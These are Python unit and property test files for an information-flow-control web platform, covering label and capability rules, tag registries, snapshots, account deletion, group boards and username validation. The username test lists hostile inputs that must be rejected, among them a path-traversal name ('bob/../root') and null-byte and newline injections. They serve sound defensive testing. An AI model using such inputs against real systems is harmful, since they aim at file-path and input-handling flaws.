        assert not can_flow_secrecy(Label([bob]), Label())

    def test_incomparable_blocked(self, bob, alice):
        assert not can_flow_secrecy(Label([bob]), Label([alice]))

    def test_sender_minus_cap_declassifies(self, bob):
        d = CapabilitySet([minus(bob)])
        assert can_flow_secrecy(Label([bob]), Label(), d_from=d)

    def test_receiver_plus_cap_raises(self, bob):
        d = CapabilitySet([plus(bob)])
        assert can_flow_secrecy(Label([bob]), Label(), d_to=d)

    def test_plus_cap_on_sender_does_not_help(self, bob):
        d = CapabilitySet([plus(bob)])
        assert not can_flow_secrecy(Label([bob]), Label(), d_from=d)

    def test_minus_cap_on_receiver_does_not_help(self, bob):
        d = CapabilitySet([minus(bob)])
        assert not can_flow_secrecy(Label([bob]), Label(), d_to=d)


class TestIntegrityFlow:
    def test_receiver_requirement_met(self, endorse):
        assert can_flow_integrity(Label([endorse]), Label([endorse]))

    def test_receiver_requirement_unmet(self, endorse):
        assert not can_flow_integrity(Label(), Label([endorse]))

    def test_higher_integrity_sender_ok(self, endorse):
        assert can_flow_integrity(Label([endorse]), Label())

    def test_sender_plus_cap_can_claim(self, endorse):
        d = CapabilitySet([plus(endorse)])
        assert can_flow_integrity(Label(), Label([endorse]), d_from=d)

    def test_receiver_minus_cap_can_waive(self, endorse):
        d = CapabilitySet([minus(endorse)])
        assert can_flow_integrity(Label(), Label([endorse]), d_to=d)


class TestCheckFlow:
    def test_combined_ok(self, bob, endorse):
        assert can_flow(Label([bob]), Label([endorse]), Label([bob]), Label())
        check_flow(Label([bob]), Label([endorse]), Label([bob]), Label())

    def test_secrecy_violation_raises_with_tags(self, bob):
        with pytest.raises(SecrecyViolation) as exc:
            check_flow(Label([bob]), Label(), Label(), Label())
        assert str(bob.tag_id) in str(exc.value)

    def test_integrity_violation_raises(self, endorse):
        with pytest.raises(IntegrityViolation):
            check_flow(Label(), Label(), Label(), Label([endorse]))


class TestLabelChange:
    def test_add_needs_plus(self, bob):
        assert label_change_allowed(Label(), Label([bob]), CapabilitySet([plus(bob)]))
        assert not label_change_allowed(Label(), Label([bob]), E)

    def test_drop_needs_minus(self, bob):
        assert label_change_allowed(Label([bob]), Label(), CapabilitySet([minus(bob)]))
        assert not label_change_allowed(Label([bob]), Label(), CapabilitySet([plus(bob)]))

    def test_noop_change_always_allowed(self, bob):
        assert label_change_allowed(Label([bob]), Label([bob]), E)

    def test_mixed_change(self, bob, alice):
        caps = CapabilitySet([plus(alice), minus(bob)])
        assert label_change_allowed(Label([bob]), Label([alice]), caps)

    def test_check_label_change_names_missing_caps(self, bob):
        with pytest.raises(CapabilityError) as exc:
            check_label_change(Label(), Label([bob]), E)
        assert "'+'" in str(exc.value)
        with pytest.raises(CapabilityError) as exc:
            check_label_change(Label([bob]), Label(), E)
        assert "'-'" in str(exc.value)


class TestEndpointRules:
    def test_reachable_range(self, bob, alice):
        s = Label([bob])
        caps = CapabilitySet([minus(bob), plus(alice)])
        low, high = reachable_secrecy_range(s, caps)
        assert low == Label()
        assert high == Label([bob, alice])

    def test_endpoint_within_range(self, bob, alice):
        s = Label([bob])
        caps = CapabilitySet([plus(alice)])
        assert endpoint_label_legal(Label([bob]), s, caps)
        assert endpoint_label_legal(Label([bob, alice]), s, caps)
        # cannot declare below own label without minus cap
        assert not endpoint_label_legal(Label(), s, caps)
        # cannot declare unrelated tags
        assert not endpoint_label_legal(Label([alice]), s, caps)

    def test_exportable_tags(self, bob, alice):
        s = Label([bob, alice])
        assert exportable_tags(s, CapabilitySet([minus(bob)])) == Label([alice])
        assert exportable_tags(s, CapabilitySet.owning(bob, alice)).is_empty()

    def test_owns_all(self, bob, alice):
        assert owns_all(Label([bob]), CapabilitySet.owning(bob))
        assert not owns_all(Label([bob, alice]), CapabilitySet.owning(bob))

    def test_tag_in_reach(self, bob, alice):
        assert tag_in_reach(bob, Label([bob]), E)
        assert tag_in_reach(alice, Label(), CapabilitySet([plus(alice)]))
        assert not tag_in_reach(alice, Label([bob]), E)
