"""Unit tests for tag minting and the registry."""

import pytest

from repro.labels import INTEGRITY, SECRECY, Tag, TagError, TagRegistry


class TestTagIdentity:
    def test_tags_have_unique_ids(self):
        reg = TagRegistry()
        tags = [reg.create(purpose=f"t{i}") for i in range(100)]
        assert len({t.tag_id for t in tags}) == 100

    def test_equality_is_by_id_only(self):
        a = Tag(1, purpose="a")
        b = Tag(1, purpose="b", owner="someone")
        assert a == b
        assert hash(a) == hash(b)

    def test_distinct_ids_not_equal(self):
        assert Tag(1) != Tag(2)

    def test_tags_are_hashable_and_frozen(self):
        t = Tag(7, purpose="x")
        with pytest.raises(AttributeError):
            t.purpose = "y"  # type: ignore[misc]
        assert t in {t}

    def test_default_kind_is_secrecy(self):
        reg = TagRegistry()
        assert reg.create().kind == SECRECY


class TestRegistry:
    def test_lookup_roundtrip(self):
        reg = TagRegistry()
        t = reg.create(purpose="bob-secrecy", owner="bob")
        assert reg.lookup(t.tag_id) is t

    def test_lookup_unknown_raises(self):
        reg = TagRegistry()
        with pytest.raises(TagError):
            reg.lookup(999)

    def test_contains(self):
        reg = TagRegistry()
        t = reg.create()
        other = TagRegistry().create()
        assert t in reg
        # same id minted by a different registry compares equal by id,
        # and the registry only checks identity by id+metadata
        assert other.tag_id == t.tag_id

    def test_len_counts_minted_tags(self):
        reg = TagRegistry()
        for _ in range(5):
            reg.create()
        assert len(reg) == 5

    def test_invalid_kind_rejected(self):
        reg = TagRegistry()
        with pytest.raises(TagError):
            reg.create(kind="confidentiality")

    def test_integrity_kind_accepted(self):
        reg = TagRegistry()
        assert reg.create(kind=INTEGRITY).kind == INTEGRITY

    def test_tags_owned_by(self):
        reg = TagRegistry()
        b1 = reg.create(owner="bob")
        b2 = reg.create(owner="bob")
        reg.create(owner="alice")
        assert set(reg.tags_owned_by("bob")) == {b1, b2}


class TestForeignImport:
    def test_import_is_idempotent(self):
        reg = TagRegistry(namespace="A")
        t1 = reg.import_foreign("B", 42, purpose="bob@B")
        t2 = reg.import_foreign("B", 42)
        assert t1 is t2

    def test_imports_from_distinct_origins_differ(self):
        reg = TagRegistry(namespace="A")
        assert reg.import_foreign("B", 1) != reg.import_foreign("C", 1)

    def test_foreign_origin_roundtrip(self):
        reg = TagRegistry(namespace="A")
        t = reg.import_foreign("B", 17)
        assert reg.foreign_origin(t) == ("B", 17)

    def test_native_tag_has_no_foreign_origin(self):
        reg = TagRegistry()
        assert reg.foreign_origin(reg.create()) is None

    def test_imported_tag_is_looked_up_normally(self):
        reg = TagRegistry(namespace="A")
        t = reg.import_foreign("B", 5)
        assert reg.lookup(t.tag_id) is t
