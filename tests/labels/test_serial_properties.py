"""Property tests for ``repro.labels.serial`` (PR 4 satellite).

The wire form must be *lossless through JSON* and land back on the
**same interned object**: labels intern, so a round-tripped label is
not merely equal — it is pointer-identical to the original, which is
what keeps the flow cache's identity-keyed memos valid across
persistence boundaries.
"""

import json

from hypothesis import given, settings
from hypothesis import strategies as st

from repro.labels import (CapabilitySet, Label, TagRegistry,
                          capset_from_dict, capset_to_dict,
                          label_from_dict, label_to_dict, minus, plus)

#: One shared registry per test run; tags minted on demand by index.
_REG = TagRegistry(namespace="prop")
_TAGS = [_REG.create(purpose=f"t{i}", owner=f"u{i % 7}")
         for i in range(32)]

tag_indexes = st.lists(st.integers(min_value=0, max_value=31),
                       max_size=12)


def through_json(data):
    """The full persistence hop: dict → JSON text → dict."""
    return json.loads(json.dumps(data))


class TestLabelRoundTrip:
    @given(tag_indexes)
    @settings(max_examples=200, deadline=None)
    def test_label_roundtrip_is_interned_identity(self, indexes):
        label = Label([_TAGS[i] for i in indexes])
        data = through_json(label_to_dict(label, _REG.namespace))
        back = label_from_dict(data, _REG)
        assert back == label
        assert back is label  # interning survives the wire

    def test_empty_label(self):
        data = through_json(label_to_dict(Label.EMPTY, _REG.namespace))
        assert data["tags"] == []
        back = label_from_dict(data, _REG)
        assert back is Label.EMPTY

    @given(tag_indexes)
    @settings(max_examples=100, deadline=None)
    def test_serialized_tags_sorted_and_deduped(self, indexes):
        label = Label([_TAGS[i] for i in indexes])
        ids = [t["tag_id"] for t in
               label_to_dict(label, _REG.namespace)["tags"]]
        assert ids == sorted(set(ids))

    @given(tag_indexes, tag_indexes)
    @settings(max_examples=100, deadline=None)
    def test_equal_labels_equal_bytes(self, a, b):
        """Serialization is a function of the tag *set* alone."""
        la = Label([_TAGS[i] for i in a])
        lb = Label([_TAGS[i] for i in b])
        ja = json.dumps(label_to_dict(la, _REG.namespace))
        jb = json.dumps(label_to_dict(lb, _REG.namespace))
        assert (la == lb) == (ja == jb)


class TestCapabilitySetRoundTrip:
    @given(st.lists(st.tuples(st.integers(min_value=0, max_value=31),
                              st.sampled_from(["+", "-"])),
                    max_size=16))
    @settings(max_examples=200, deadline=None)
    def test_capset_roundtrip(self, pairs):
        caps = CapabilitySet(
            [plus(_TAGS[i]) if s == "+" else minus(_TAGS[i])
             for i, s in pairs])
        data = through_json(capset_to_dict(caps, _REG.namespace))
        back = capset_from_dict(data, _REG)
        assert back == caps
        # semantic equivalence, not just equality of the container
        for i, s in pairs:
            cap = plus(_TAGS[i]) if s == "+" else minus(_TAGS[i])
            assert cap in back

    def test_empty_capset(self):
        data = through_json(capset_to_dict(CapabilitySet(),
                                           _REG.namespace))
        assert data["caps"] == []
        assert capset_from_dict(data, _REG) == CapabilitySet()

    def test_duplicate_caps_collapse(self):
        """t+ granted twice is one capability on the wire and back."""
        t = _TAGS[0]
        caps = CapabilitySet([plus(t), plus(t), minus(t)])
        data = capset_to_dict(caps, _REG.namespace)
        assert len(data["caps"]) == 2  # {t+, t-}
        back = capset_from_dict(through_json(data), _REG)
        assert back == caps
        assert plus(t) in back and minus(t) in back

    @given(st.lists(st.tuples(st.integers(min_value=0, max_value=31),
                              st.sampled_from(["+", "-"])),
                    max_size=16))
    @settings(max_examples=100, deadline=None)
    def test_dual_privilege_round_trips(self, pairs):
        """Owning both signs of a tag (t+ *and* t-) survives the wire
        — losing either half would silently change what a process may
        declassify."""
        owned = [i for i, s in pairs if s == "+"]
        caps = CapabilitySet([c for i in owned
                              for c in (plus(_TAGS[i]), minus(_TAGS[i]))])
        back = capset_from_dict(
            through_json(capset_to_dict(caps, _REG.namespace)), _REG)
        assert back == caps
