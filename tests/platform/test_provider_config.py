"""The redesigned Provider configuration API.

ProviderConfig presets, legacy-keyword deprecation (with exact
equivalence between old and new spellings), config threading through
W5System and persistence restore, the unified ``Metrics.attach``, and
``Provider.explain`` / the ``plan`` CLI renderer.
"""

import json
import warnings

import pytest

from repro.core import Metrics, W5System
from repro.platform import (Provider, ProviderConfig, W5DeprecationWarning,
                            restore_provider, snapshot_provider)


class TestProviderConfig:
    def test_default_mirrors_historical_defaults(self):
        config = ProviderConfig()
        assert config.fast_request_plane
        assert config.recycle_processes
        assert config.partitioned_store
        assert config.incremental_persistence
        assert config.journal_compact_bytes == 1 << 20
        assert not config.request_plans  # M12 is opt-in

    def test_fast_preset_enables_plans(self):
        assert ProviderConfig.fast().request_plans
        assert ProviderConfig.fast(partitioned_store=False).request_plans

    def test_naive_preset_disables_everything(self):
        config = ProviderConfig.naive()
        assert not config.fast_request_plane
        assert not config.recycle_processes
        assert not config.partitioned_store
        assert not config.incremental_persistence
        assert not config.request_plans

    def test_durable_preset_pins_persistence(self):
        assert ProviderConfig.durable().incremental_persistence
        assert ProviderConfig.durable(
            request_plans=True).incremental_persistence

    def test_frozen_with_replace(self):
        config = ProviderConfig()
        with pytest.raises(Exception):
            config.request_plans = True
        assert config.replace(request_plans=True).request_plans
        assert not config.request_plans

    def test_describe_round_trips_json(self):
        desc = ProviderConfig.fast().describe()
        assert json.loads(json.dumps(desc)) == desc

    def test_config_threads_through_provider(self):
        p = Provider(name="x", config=ProviderConfig.naive())
        assert p.config == ProviderConfig.naive()
        assert not p.kernel.pool.enabled
        assert not p.db.partitioned
        assert not p.plans.enabled
        assert p._durability is None

    def test_config_threads_through_system(self):
        w5 = W5System(name="x", config=ProviderConfig.fast())
        assert w5.provider.config.request_plans
        assert w5.provider.plans.enabled

    def test_config_threads_through_restore(self):
        p = Provider(name="x", config=ProviderConfig.fast())
        p.signup("amy", "pw")
        restored, __ = restore_provider(snapshot_provider(p),
                                        config=ProviderConfig.fast())
        assert restored.config.request_plans
        assert restored.plans.enabled


class TestDeprecatedKeywords:
    def test_legacy_provider_kwarg_warns(self):
        with pytest.warns(W5DeprecationWarning, match="deprecated"):
            p = Provider(name="x", partitioned_store=False)
        assert not p.db.partitioned

    def test_legacy_system_kwarg_warns(self):
        with pytest.warns(W5DeprecationWarning, match="W5System"):
            w5 = W5System(name="x", recycle_processes=False)
        assert not w5.provider.kernel.pool.enabled

    def test_legacy_kwarg_overrides_config(self):
        with pytest.warns(W5DeprecationWarning):
            p = Provider(name="x", config=ProviderConfig.fast(),
                         incremental_persistence=False)
        assert p.config.request_plans  # config fields kept
        assert not p.config.incremental_persistence  # override won

    def test_config_alone_is_warning_free(self):
        with warnings.catch_warnings():
            warnings.simplefilter("error", W5DeprecationWarning)
            Provider(name="x", config=ProviderConfig())
            W5System(name="y", config=ProviderConfig.fast())

    def test_every_legacy_flag_still_functions(self):
        legacy = dict(fast_request_plane=False, recycle_processes=False,
                      partitioned_store=False, incremental_persistence=False,
                      journal_compact_bytes=512, request_plans=True)
        with pytest.warns(W5DeprecationWarning):
            p = Provider(name="x", **legacy)
        assert p.config == ProviderConfig(**legacy)


class TestMetricsAttach:
    def test_attach_covers_every_plane(self):
        w5 = W5System(name="x", config=ProviderConfig.fast())
        w5.add_user("amy", apps=("blog",))
        metrics = Metrics(w5.audit()).attach(w5.provider)
        w5.client("amy").get("/app/blog/post", title="t", body="b")
        w5.client("amy").get("/app/blog/list", author="amy")
        assert metrics.cache_snapshot() != {}
        request_plane = metrics.request_plane_snapshot()
        assert request_plane["plans"]["enabled"]
        assert request_plane["plans"]["misses"] >= 1
        assert request_plane["pool"]["enabled"]
        assert metrics.data_plane_snapshot()["db"]["partitioned"]
        assert metrics.persistence_snapshot()["incremental_persistence"]
        assert metrics.gateway_snapshot()["exports_allowed"] >= 2

    def test_old_attach_methods_still_compose(self):
        w5 = W5System(name="x")
        metrics = (Metrics(w5.audit())
                   .attach_request_plane(w5.provider)
                   .attach_gateway(w5.provider.gateway))
        assert "plans" in metrics.request_plane_snapshot()
        assert metrics.gateway_snapshot() == {
            "exports_allowed": 0, "exports_denied": 0, "rate_limited": 0}


class TestExplain:
    def test_explain_renders_whether_or_not_enabled(self):
        for config in (ProviderConfig(), ProviderConfig.fast()):
            w5 = W5System(name="x", config=config)
            w5.add_user("amy", apps=("blog",))
            desc = w5.provider.explain("blog", "amy")
            assert desc["planned"]
            assert desc["dispatch_enabled"] == config.request_plans
            assert desc["app"]["name"] == "blog"
            assert desc["config"] == config.describe()
            assert json.loads(json.dumps(desc)) == desc

    def test_explain_reports_bypass(self):
        w5 = W5System(name="x", config=ProviderConfig.fast())
        w5.add_user("amy", apps=("blog",))
        w5.provider.set_integrity_policy("amy", require_endorsed=True)
        desc = w5.provider.explain("blog", "amy")
        assert not desc["planned"]
        assert "reason" in desc

    def test_plan_cli_renders(self, tmp_path, capsys):
        from repro.analysis.plancmd import run

        w5 = W5System(name="x", config=ProviderConfig.fast())
        w5.add_user("amy", apps=("blog",))
        w5.client("amy").get("/app/blog/list", author="amy")
        path = tmp_path / "explain.json"
        path.write_text(json.dumps(w5.provider.explain("blog", "amy")))
        assert run([str(path)]) == 0
        out = capsys.readouterr().out
        assert "# Request plan" in out
        assert "app:blog" in out
        assert "epoch" in out.lower()
