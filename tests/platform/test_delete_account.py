"""Tests for account deletion (the right to leave)."""

import pytest

from repro import W5System
from repro.platform import NoSuchUser


@pytest.fixture()
def world():
    w5 = W5System()
    bob = w5.add_user("bob", apps=["blog", "photo-share", "club-board"],
                      friends=["amy"])
    amy = w5.add_user("amy", apps=["blog", "club-board"], friends=["bob"])
    bob.get("/app/blog/post", title="t1", body="post-one")
    bob.get("/app/blog/post", title="t2", body="post-two")
    bob.get("/app/photo-share/upload", filename="p.jpg", data="<jpeg>")
    return w5, bob, amy


class TestDeleteAccount:
    def test_erasure_counts(self, world):
        w5, bob, amy = world
        erased = w5.provider.delete_account("bob")
        assert erased["files"] >= 1     # the photo
        assert erased["rows"] == 2      # the posts
        assert erased["grants"] == 1    # friends-only

    def test_account_gone(self, world):
        w5, bob, amy = world
        w5.provider.delete_account("bob")
        with pytest.raises(NoSuchUser):
            w5.provider.account("bob")
        assert w5.provider.usernames() == ["amy"]

    def test_data_unreachable_after_deletion(self, world):
        w5, bob, amy = world
        w5.provider.delete_account("bob")
        # amy (former friend) finds nothing
        r = amy.get("/app/blog/read", author="bob", title="t1")
        assert r.status in (403, 404, 500) or \
            r.body.get("error") is not None
        assert not amy.ever_received("post-one")

    def test_home_directory_gone(self, world):
        w5, *_ = world
        w5.provider.delete_account("bob")
        svc = w5.provider._account_service
        from repro.fs import FsView
        assert "bob" not in FsView(w5.provider.fs, svc).listdir("/users")

    def test_other_users_untouched(self, world):
        w5, bob, amy = world
        amy.get("/app/blog/post", title="a1", body="amys-post")
        w5.provider.delete_account("bob")
        assert amy.get("/app/blog/read", title="a1").body["body"] \
            == "amys-post"

    def test_tag_is_tombstoned_not_reused(self, world):
        w5, *_ = world
        old_tag = w5.provider.account("bob").data_tag
        w5.provider.delete_account("bob")
        # a new user (even reusing the name) gets fresh tags
        w5.add_user("bob", apps=["blog"])
        new_tag = w5.provider.account("bob").data_tag
        assert new_tag.tag_id != old_tag.tag_id
        # the old tag still resolves (tombstone), so stray labels
        # remain locked rather than dangling
        assert w5.provider.kernel.tags.lookup(old_tag.tag_id) == old_tag

    def test_group_membership_cleaned(self, world):
        w5, bob, amy = world
        w5.provider.groups.create("amy", "club")
        w5.provider.groups.add_member("amy", "club", "bob")
        w5.provider.delete_account("bob")
        assert not w5.provider.groups.get("club").is_member("bob")

    def test_owned_group_survives_headless(self, world):
        w5, bob, amy = world
        w5.provider.groups.create("bob", "club")
        w5.provider.groups.add_member("bob", "club", "amy")
        w5.provider.delete_account("bob")
        g = w5.provider.groups.get("club")
        assert g.is_member("amy")  # shared space not destroyed
