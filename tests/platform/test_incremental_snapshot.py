"""O(dirty) incremental snapshots: delta + merge == full (PR 4)."""

import copy
import json

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from repro.apps import STANDARD_CATALOG, install_standard_apps
from repro.platform import (Provider, ProviderConfig, merge_delta,
                            restore_provider,
                            snapshot_provider)

from .test_journal_replay import (MUTATIONS, TIMELINE, canon,
                                  fresh_provider, run_timeline)


class TestDeltaMergeEqualsFull:
    def test_rich_timeline(self):
        p, base, __ = run_timeline(TIMELINE)
        delta = snapshot_provider(p, incremental=True)
        assert delta["kind"] == "delta"
        assert canon(merge_delta(base, delta)) == \
            canon(snapshot_provider(p))

    @settings(max_examples=25, deadline=None,
              suppress_health_check=[HealthCheck.too_slow])
    @given(st.lists(st.sampled_from([
        "profile", "enable", "prefer", "store", "grant", "config",
        "revoke", "endorse", "retract", "js", "pin", "unpin", "clock",
        "disable", "member_add", "member_remove", "delete",
    ]), min_size=0, max_size=10))
    def test_random_mutations(self, steps):
        p, base, __ = run_timeline(
            ["signup", "signup2", "grant", "group"] + steps,
            tolerant=True)
        delta = snapshot_provider(p, incremental=True)
        merged = merge_delta(base, delta)
        assert canon(merged) == canon(snapshot_provider(p))

    def test_merged_snapshot_restores(self):
        """A merged snapshot is a first-class snapshot: it restores."""
        p, base, __ = run_timeline(["signup", "enable", "store",
                                    "grant"])
        merged = merge_delta(base, snapshot_provider(p, incremental=True))
        p2, report = restore_provider(copy.deepcopy(merged),
                                      app_catalog=STANDARD_CATALOG)
        assert report["missing_apps"] == []
        assert p2.read_user_data("bob", "d.txt") == "day one"
        assert canon(snapshot_provider(p2)) == canon(snapshot_provider(p))

    def test_deltas_are_cumulative_not_chained(self):
        """Only (base, latest delta) need be retained: an earlier delta
        can be discarded, the newest one still merges to full."""
        p, base, __ = run_timeline(["signup"])
        __ = snapshot_provider(p, incremental=True)  # discarded
        MUTATIONS["profile"](p)
        MUTATIONS["store"](p)
        latest = snapshot_provider(p, incremental=True)
        assert canon(merge_delta(base, latest)) == \
            canon(snapshot_provider(p))


class TestDeltaIsODirty:
    def test_clean_state_serializes_nothing(self):
        p = fresh_provider()
        for i in range(20):
            p.signup(f"user{i:03d}", "pw")
        p._durability.checkpoint()  # everyone clean
        p.set_profile("user005", mood="good")
        delta = snapshot_provider(p, incremental=True)
        assert [a["username"] for a in delta["accounts"]] == ["user005"]
        assert delta["fs"]["upserts"] == {}
        assert delta["registry"]["tags"] == []
        assert delta["grants_by_owner"] == {}

    def test_fs_delta_only_touched_paths(self):
        p = fresh_provider()
        for i in range(10):
            p.signup(f"user{i:03d}", "pw")
            p.store_user_data(f"user{i:03d}", "a.txt", f"v{i}")
        p._durability.checkpoint()
        p.store_user_data("user003", "b.txt", "new")
        delta = snapshot_provider(p, incremental=True)
        assert list(delta["fs"]["upserts"]) == ["/users/user003/b.txt"]
        assert delta["removed_accounts"] == []

    def test_db_delta_only_touched_rows(self):
        p = fresh_provider()
        p.signup("bob", "pw")
        p.enable_app("bob", "blog")
        from repro.net import ExternalClient
        bob = ExternalClient("bob", p.transport())
        bob.login("pw")
        for i in range(5):
            bob.get("/app/blog/post", title=f"t{i}", body="x")
        p._durability.checkpoint()
        bob.get("/app/blog/post", title="fresh", body="y")
        delta = snapshot_provider(p, incremental=True)
        rows = [r for t in delta["db"]["tables"].values()
                for r in t["rows"]]
        assert len(rows) == 1  # only the new post's row


class TestCompaction:
    def test_threshold_triggers_full_snapshot(self):
        p = Provider(name="tiny",
                     config=ProviderConfig(journal_compact_bytes=256))
        install_standard_apps(p)
        p.signup("bob", "pw")  # blows well past 256 journal bytes
        assert p._durability.journal.needs_compaction()
        snap = snapshot_provider(p, incremental=True)
        assert snap.get("kind") != "delta"  # escalated to full
        assert p._durability.journal.size_bytes == 0  # re-based
        stats = p.persistence_stats()
        assert stats["compactions"] == 1
        # below threshold again: back to deltas
        p.set_profile("bob", mood="ok")
        assert snapshot_provider(p, incremental=True)["kind"] == "delta"
        assert canon(merge_delta(snap,
                                 snapshot_provider(p, incremental=True))) \
            == canon(snapshot_provider(p))

    def test_first_emit_without_base_is_full(self):
        p = Provider(name="w5")
        p._durability.base = None  # simulate no checkpoint yet
        snap = snapshot_provider(p, incremental=True)
        assert snap.get("kind") != "delta"


class TestNaiveBaseline:
    def test_flag_off_means_no_journal(self):
        p = Provider(name="naive",
                     config=ProviderConfig(incremental_persistence=False))
        install_standard_apps(p)
        p.signup("bob", "pw")
        assert p._durability is None
        assert p.persistence_stats() == {"incremental_persistence": False}
        # incremental request degrades to a full snapshot
        snap = snapshot_provider(p, incremental=True)
        assert snap.get("kind") != "delta"
        assert canon(snap) == canon(snapshot_provider(p))

    def test_both_modes_snapshot_identically(self):
        def world(incremental):
            p = Provider(name="prod", config=ProviderConfig(
                incremental_persistence=incremental))
            install_standard_apps(p)
            p.signup("bob", "pw")
            p.enable_app("bob", "blog")
            p.grant_builtin_declassifier("bob", "friends-only",
                                         {"friends": ["amy"]})
            p.store_user_data("bob", "d.txt", "day one")
            return snapshot_provider(p)
        assert canon(world(True)) == canon(world(False))


class TestMetricsSurface:
    def test_attach_persistence(self):
        from repro.core import Metrics
        p = fresh_provider()
        m = Metrics(p.kernel.audit).attach_persistence(p)
        p.signup("bob", "pw")
        snap = m.persistence_snapshot()
        assert snap["incremental_persistence"] is True
        assert snap["appends"] > 0
        assert snap["bytes_written"] > 0
        for key in ("compactions", "replay_records",
                    "torn_truncations", "full_snapshots",
                    "incremental_snapshots", "opaque_appends"):
            assert key in snap

    def test_unattached_is_empty(self):
        from repro.core import Metrics
        p = fresh_provider()
        assert Metrics(p.kernel.audit).persistence_snapshot() == {}
