"""Tests for group spaces and the club-board app."""

import pytest

from repro import W5System
from repro.platform import NotAuthorized, PlatformError


@pytest.fixture()
def world():
    w5 = W5System()
    bob = w5.add_user("bob", apps=["club-board"])
    amy = w5.add_user("amy", apps=["club-board"])
    eve = w5.add_user("eve", apps=["club-board"])
    w5.provider.groups.create("bob", "roommates")
    w5.provider.groups.add_member("bob", "roommates", "amy", writer=True)
    return w5, bob, amy, eve


class TestGroupService:
    def test_create_and_roster(self, world):
        w5, *_ = world
        g = w5.provider.groups.get("roommates")
        assert g.owner == "bob"
        assert g.members == {"bob", "amy"}
        assert g.is_writer("amy")

    def test_duplicate_name_rejected(self, world):
        w5, *_ = world
        with pytest.raises(PlatformError):
            w5.provider.groups.create("amy", "roommates")

    def test_bad_names_rejected(self, world):
        w5, *_ = world
        for bad in ("", "a/b", ".hidden"):
            with pytest.raises(PlatformError):
                w5.provider.groups.create("bob", bad)

    def test_only_owner_manages(self, world):
        w5, *_ = world
        with pytest.raises(NotAuthorized):
            w5.provider.groups.add_member("amy", "roommates", "eve")
        with pytest.raises(NotAuthorized):
            w5.provider.groups.remove_member("eve", "roommates", "amy")

    def test_owner_cannot_be_removed(self, world):
        w5, *_ = world
        with pytest.raises(PlatformError):
            w5.provider.groups.remove_member("bob", "roommates", "bob")

    def test_groups_of(self, world):
        w5, *_ = world
        assert w5.provider.groups.groups_of("amy") == ["roommates"]
        assert w5.provider.groups.groups_of("eve") == []


class TestClubBoard:
    def test_member_posts_and_members_read(self, world):
        w5, bob, amy, eve = world
        bob.get("/app/club-board/post", group="roommates",
                text="rent due friday")
        r = amy.get("/app/club-board/read", group="roommates")
        assert r.ok
        assert r.body["board"] == [{"by": "bob",
                                    "text": "rent due friday"}]

    def test_writer_member_appends(self, world):
        w5, bob, amy, eve = world
        bob.get("/app/club-board/post", group="roommates", text="one")
        amy.get("/app/club-board/post", group="roommates", text="two")
        r = bob.get("/app/club-board/read", group="roommates")
        assert [e["text"] for e in r.body["board"]] == ["one", "two"]

    def test_non_member_blocked_at_perimeter(self, world):
        w5, bob, amy, eve = world
        bob.get("/app/club-board/post", group="roommates",
                text="SECRET-RENT-DETAILS")
        r = eve.get("/app/club-board/read", group="roommates")
        assert r.status in (403, 500)
        assert not eve.ever_received("SECRET-RENT-DETAILS")

    def test_read_only_member_cannot_post(self, world):
        w5, bob, amy, eve = world
        w5.provider.groups.add_member("bob", "roommates", "eve",
                                      writer=False)
        bob.get("/app/club-board/post", group="roommates", text="x")
        # eve can now read...
        r = eve.get("/app/club-board/read", group="roommates")
        assert r.ok
        # ...but her post attempt dies on write protection
        r = eve.get("/app/club-board/post", group="roommates",
                    text="vandalism")
        assert r.status in (403, 500)
        r = bob.get("/app/club-board/read", group="roommates")
        assert [e["text"] for e in r.body["board"]] == ["x"]

    def test_removed_member_loses_access(self, world):
        w5, bob, amy, eve = world
        bob.get("/app/club-board/post", group="roommates",
                text="before-amy-left")
        assert amy.get("/app/club-board/read", group="roommates").ok
        w5.provider.groups.remove_member("bob", "roommates", "amy")
        r = amy.get("/app/club-board/read", group="roommates")
        assert r.status in (403, 500)
        assert not any("before-amy-left" in str(b)
                       for b in amy.received[-1:])

    def test_groups_listing(self, world):
        w5, bob, amy, eve = world
        assert bob.get("/app/club-board/groups").body == \
            {"groups": ["roommates"]}

    def test_unknown_group(self, world):
        w5, bob, *_ = world
        r = bob.get("/app/club-board/read", group="ghosts")
        assert r.status in (400, 403, 404, 500)
