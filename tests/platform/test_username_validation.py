"""Unit tests for signup username validation (front-door hardening)."""

import pytest

from repro.platform import PlatformError, Provider


@pytest.fixture()
def provider():
    return Provider()


class TestUsernameValidation:
    @pytest.mark.parametrize("name", [
        "bob", "amy-smith", "carl_2", "a.b.c", "X" * 64, "u0"])
    def test_valid_names_accepted(self, provider, name):
        provider.signup(name, "pw")
        assert provider.account(name).username == name

    @pytest.mark.parametrize("name", [
        "", " ", "bob smith", "bob/../root", "a\x00b", "bébé",
        "X" * 65, "..", ".hidden", "provider", "a/b", "a\nb"])
    def test_invalid_names_rejected(self, provider, name):
        with pytest.raises(PlatformError):
            provider.signup(name, "pw")

    def test_non_string_rejected(self, provider):
        with pytest.raises(PlatformError):
            provider.signup(12345, "pw")  # type: ignore[arg-type]

    def test_rejection_leaves_no_partial_account(self, provider):
        with pytest.raises(PlatformError):
            provider.signup("bad name", "pw")
        assert provider.usernames() == []
        assert not provider.sessions.has_user("bad name")

    def test_http_signup_rejection_is_400(self, provider):
        from repro.net import ExternalClient
        c = ExternalClient("x", provider.transport())
        r = c.post("/signup", params={"username": "bad name",
                                      "password": "pw"})
        assert r.status == 400
