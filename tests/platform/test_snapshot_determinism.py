"""Deterministic snapshots (PR 4 satellite): identical logical states
must produce identical raw JSON bytes — no ``sort_keys`` crutch — so
snapshot artifacts diff/dedupe cleanly and the delta-merge path can
regroup grants per owner and still land on the full snapshot's bytes.
"""

import json

from repro.apps import install_standard_apps
from repro.platform import Provider, snapshot_provider


def build(order: str) -> Provider:
    """Two histories converging on one logical state.  Tag allocation
    order is held fixed (same signup order); only the *policy* mutation
    order varies."""
    p = Provider(name="prod")
    install_standard_apps(p)
    p.signup("bob", "pw")
    p.signup("amy", "pw")
    if order == "forward":
        p.grant_builtin_declassifier("bob", "friends-only",
                                     {"friends": ["amy"]})
        p.grant_builtin_declassifier("amy", "public", {})
        p.prefer_module("bob", "cropper", "crop-smart")
        p.prefer_module("bob", "editor", "blog")
        p.set_profile("bob", music="jazz", bio="hi")
        p.pin_audited("bob", "blog", "1.0")
        p.pin_audited("bob", "social", "1.0")
    else:
        p.grant_builtin_declassifier("amy", "public", {})
        p.grant_builtin_declassifier("bob", "friends-only",
                                     {"friends": ["amy"]})
        p.prefer_module("bob", "editor", "blog")
        p.prefer_module("bob", "cropper", "crop-smart")
